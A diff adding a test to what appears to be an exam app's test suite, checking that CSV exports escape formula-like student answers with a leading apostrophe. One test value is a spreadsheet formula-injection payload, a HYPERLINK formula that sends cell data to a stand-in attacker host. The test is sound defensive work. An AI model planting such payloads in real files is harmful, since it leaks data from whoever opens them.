@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import uuid
 from concurrent.futures import ThreadPoolExecutor
@@ -366,6 +368,19 @@ def test_staff_export_attempts_with_correctness_only_for_submitted_sections(stud
     csv_text = teacher.get(f"/export?test_id={state['test_id']}&format=csv").text
     assert csv_text.splitlines()[0].startswith("session_id,user_id,test_id,seq")
     assert len(csv_text.splitlines()) == 3
+
+
+def test_the_csv_export_shows_formula_like_answers_as_text(student: Api, teacher: Api) -> None:
+    state = student.start()
+    short_answer = section_questions(state, 1)[0]
+    formula, number = '=HYPERLINK("http://attacker.example/?"&A1,"click")', "-3"
+    for answer in (formula, "@SUM(A1:A9)", "\tx", number):
+        student.send(state["id"], student.op("answer", question_id=short_answer["id"], answer=answer))
+
+    rows = list(csv.DictReader(io.StringIO(teacher.get(f"/export?session_id={state['id']}&format=csv").text)))
+
+    assert [r["answer"] for r in rows] == ["'" + formula, "'@SUM(A1:A9)", "'\tx", number]
+    assert teacher.get(f"/export?session_id={state['id']}").json()[0]["answer"] == formula  # JSON is unchanged
 
 
 def test_history_resumes_after_a_sequence_number(student: Api) -> None:
